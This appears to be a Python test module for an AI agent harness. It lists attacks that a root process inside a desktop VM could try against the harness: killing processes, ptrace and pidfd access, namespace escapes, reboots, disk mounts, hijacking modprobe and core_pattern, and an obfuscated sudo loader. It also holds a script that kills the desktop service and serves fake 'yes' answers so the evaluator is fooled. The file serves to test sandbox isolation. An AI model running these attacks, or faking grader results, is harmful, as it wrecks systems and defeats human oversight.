"""What root in a desktop tries against what looks after it; each prints `stolen` where it gets through."""

from __future__ import annotations

import base64
import zlib
from typing import Any


def answer_task(wanted: str = "yes\n") -> dict[str, Any]:
    """Make a task whose end state is what a file says; it says yes at the start."""
    result = {"type": "vm_command_line", "command": ["cat", "/home/user/answer"]}
    expected = {"type": "rule", "rules": {"expected": wanted}}
    begin = {"type": "execute", "parameters": {"command": "echo yes > ~/answer", "shell": True}}
    evaluator = {"func": "exact_match", "result": result, "expected": expected}
    return {"id": "isolation", "instruction": "", "config": [begin], "evaluator": evaluator}


# Patterns have brackets so that they do not match the shell that has them in its own command line.
KILL_BY_NAME = (
    "pkill -9 -f '[o]sgym_guest'; pkill -9 -f '[o]sgym-session'; pkill -9 Xvfb; pkill -9 dbus-daemon; "
    "killall -9 python3; killall -9 Xvfb"
)
STOP_BY_NAME = (
    "pkill -STOP -f '[o]sgym_guest'; pkill -STOP Xvfb; pkill -STOP dbus-daemon; pkill -STOP osgym-session"
)
EVERY_NUMBER = """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in range(2, 4096):
    try:
        name = open(f"/proc/{pid}/comm").read().strip()
    except OSError:
        name = ""
    if pid == os.getpid() or name and name not in ("Xvfb", "python3", "osgym-session"):
        continue
    libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.write(b"x")
    except OSError:
        pass
    try:
        fd = os.pidfd_open(pid)
        os.write(1, b"stolen " + name.encode())
        for number in range(64):
            libc.syscall(438, fd, number, 0)  # pidfd_getfd
    except OSError:
        pass
    try:
        os.kill(pid, 9)
    except OSError:
        pass
"""
OTHER_PROC = (
    "mkdir -p /tmp/p; mount -t proc proc /tmp/p; "
    "grep -qsx Xvfb /tmp/p/[0-9]*/comm && echo stolen; umount /tmp/p; "
    "umount -l /proc; grep -qsx Xvfb /proc/[0-9]*/comm && echo stolen; mount -t proc proc /proc"
)
THROUGH_FIRST = (
    "[ -e /proc/1/root/run/osgym/harness/fb/Xvfb_screen0 ] && echo stolen; "
    "nsenter -t 1 -m -p -- pkill -9 -f '[o]sgym_guest'; kill -9 1; kill -STOP 1"
)
PARENT_NAMESPACE = """
import ctypes, fcntl, os
fd = os.open("/proc/self/ns/pid", os.O_RDONLY)
try:
    parent = fcntl.ioctl(fd, 0xB702)  # NS_GET_PARENT
    os.write(1, b"stolen\\n")
    ctypes.CDLL(None).setns(parent, 0)
except OSError:
    pass
"""
PEER_PIDFD = """
import ctypes, os, socket
libc = ctypes.CDLL(None)
for path in ("/tmp/.X11-unix/X0", "/run/user/1000/bus"):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        try:
            fd = peer.getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
        except OSError:
            continue
        os.write(1, b"stolen")
        libc.setns(fd, 0x20000)  # CLONE_NEWNS: with the /proc that shows all
"""
NEXT_NAMESPACE = """
import ctypes, fcntl, os
for request in (0x8010B70B, 0x8010B70C, 0x8018B70C):  # NS_MNT_GET_NEXT, NS_MNT_GET_PREV
    fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    for _ in range(16):
        try:
            fd = fcntl.ioctl(fd, request, bytearray(24), True)
        except OSError:
            break
        os.write(1, b"stolen")
"""
GROUPS = (
    "mkdir -p /tmp/g; mount -t cgroup2 none /tmp/g 2>/dev/null; "
    "for f in $(find /tmp/g /sys/fs/cgroup -name cgroup.kill -o -name cgroup.freeze 2>/dev/null); "
    "do echo 1 > $f; done"
)
SOCKETS = (
    "rm -f /tmp/.X11-unix/X0 /run/user/1000/bus; find /run /tmp /var -type s -delete; "
    "rm -rf /run/osgym/harness; truncate -s 0 /run/osgym/harness/fb/*"
)

ATTACKS = {
    "names": KILL_BY_NAME,
    "stop": STOP_BY_NAME,
    "numbers": f"python3 -c '{EVERY_NUMBER}'",
    "proc": OTHER_PROC,
    "first": THROUGH_FIRST,
    "parent": f"python3 -c '{PARENT_NAMESPACE}'",
    "peer": f"python3 -c '{PEER_PIDFD}'",
    "next": f"python3 -c '{NEXT_NAMESPACE}'",
    "groups": GROUPS,
    "sockets": SOCKETS,
    "all": "kill -9 -1",
}


def quoted(text: str) -> str:
    """A word of the shell."""
    return "'" + text.replace("'", "'\\''") + "'"


def typed_by_policy(program: str) -> str:
    """Return a line for a terminal that runs a Python program as root, as short as a policy would make it."""
    return f"echo {base64.b64encode(zlib.compress(program.encode())).decode()} | sudo python3 -c {_UNPACK}"


_UNPACK = "'import base64,sys,zlib; exec(zlib.decompress(base64.b64decode(sys.stdin.read())))'"

TAKE_THE_AGENTS_PLACE = r"""
import http.server, json, os, subprocess, time
subprocess.run(["systemctl", "stop", "osgym-desktop"])
subprocess.run("pkill -9 -f '[o]sgym_guest'; pkill -9 Xvfb; fuser -k 5000/tcp", shell=True)
class Answer(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = json.dumps({"output": "yes\n", "error": "", "returncode": 0, "status": "ok"}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST
for _ in range(20):
    try:
        server = http.server.HTTPServer(("0.0.0.0", 5000), Answer)
        break
    except OSError:
        time.sleep(0.1)
else:
    open("/tmp/refused", "w").close()
    raise SystemExit
open("/tmp/taken", "w").close()
server.serve_forever()
"""

REAL_ROOT = "#!/bin/sh\n/bin/id >/tmp/stolen-by-$(/usr/bin/basename $0)\n"
"""A program that tells who runs it: what the kernel and init run in place of their own is put there."""
_RUN_AS_ROOT = """
import ctypes, os, socket, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for path in ("/sbin/modprobe", "/sbin/request-key", "/lib/systemd/systemd-shutdown", "/usr/bin/xkbcomp",
             "/usr/lib/osgym/desktop", "/usr/lib/osgym/vm-desktop", "/usr/lib/systemd/systemd-udevd"):
    if os.path.lexists(path):
        os.unlink(path)
    with open(path, "w") as file:
        file.write(PROGRAM)
    os.chmod(path, 0o755)
os.makedirs("/etc/udev/rules.d", exist_ok=True)
with open("/etc/udev/rules.d/00-run.rules", "w") as file:
    file.write('RUN+="/usr/bin/xkbcomp"')
for name in ("osgym-desktop", "systemd-journald"):
    folder = f"/etc/systemd/system/{name}.service.d"
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/run.conf", "w") as file:
        file.write("[Service]\\nExecStopPost=/usr/bin/xkbcomp\\n")
for family in (9, 21, 30, 40):  # families of sockets that are modules
    try:
        socket.socket(family, socket.SOCK_DGRAM).close()
    except OSError:
        pass
libc.syscall(249, b"user", b"x", b"more", 0)  # request_key: the kernel runs /sbin/request-key
for kind in (b"overlay", b"fuse", b"isofs", b"nosuchfs"):
    libc.mount(b"x", b"/mnt", kind, 0, b"lowerdir=/usr,upperdir=/root,workdir=/srv")
subprocess.run(["setxkbmap", "us"])
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper"):
    try:
        with open(path, "w") as file:
            file.write("|/usr/bin/xkbcomp")
        print("stolen", path)
    except OSError:
        pass
"""


def _each(*commands: str) -> str:
    """Return a script that runs commands, and says `stolen` with each that works."""
    return "; ".join(f"{command} && echo stolen {number}" for number, command in enumerate(commands))


def _there(*patterns: str) -> str:
    """Return a script that says `stolen` with each file that is there."""
    return f"for file in {' '.join(patterns)}; do [ ! -e $file ] || echo stolen $file; done"


_REBOOT = 'python3 -c "import ctypes; assert ctypes.CDLL(None).reboot(0x4321fedc) == 0"'
MACHINE_ATTACKS = {
    "power": _each(
        "poweroff -ff", "reboot -ff", "systemctl poweroff", "systemctl stop osgym-desktop", _REBOOT
    ),
    "triggers": _each(*(f"echo {key} >/proc/sysrq-trigger" for key in "cobei")),
    "disk": _each(
        "mknod /tmp/disk b 254 0",
        "mount -t devtmpfs d /mnt",
        "mount -t ext4 /dev/vda2 /mnt",
    )
    + "; "
    + _there("/dev/vd*", "/dev/mem", "/dev/port", "/dev/kmsg", "/dev/vport*", "/dev/fuse"),
    "modules": _each("insmod /lib/modules/*/kernel/fs/fuse/fuse.ko", "rmmod virtio_net"),
    "control groups": _each(
        "mount -t cgroup2 c /mnt", "unshare -C mount -t cgroup2 c /mnt", "mount -o remount,rw /sys"
    )
    + "; "
    + _there("/sys/fs/cgroup/*"),
    "mounts": _each(
        "umount -l /usr",
        "umount -l /proc/sys",
        "umount -l /proc",
        "mount -o remount,rw /proc/sys",
        "mount -t proc p /mnt",
        "unshare -pfm --mount-proc true",
        "unshare -pf mount -t proc p /mnt",
        "unshare -n sh -c 'mount -t sysfs s /mnt; echo x >/mnt/kernel/uevent_helper'",
    )
    + "; "
    + _there("/run/systemd", "/run/dbus", "/run/osgym/harness", "/.session"),
    "network": _each("ip link set eth0 down", "ip addr flush dev eth0", "ip route del default"),
    "programs of root": f"python3 - <<'EOF'\nPROGRAM = {REAL_ROOT!r}\n{_RUN_AS_ROOT}EOF\n"
    "ls /tmp/stolen-by-* 2>/dev/null",
}
"""What root in a virtual machine tries against the machine."""
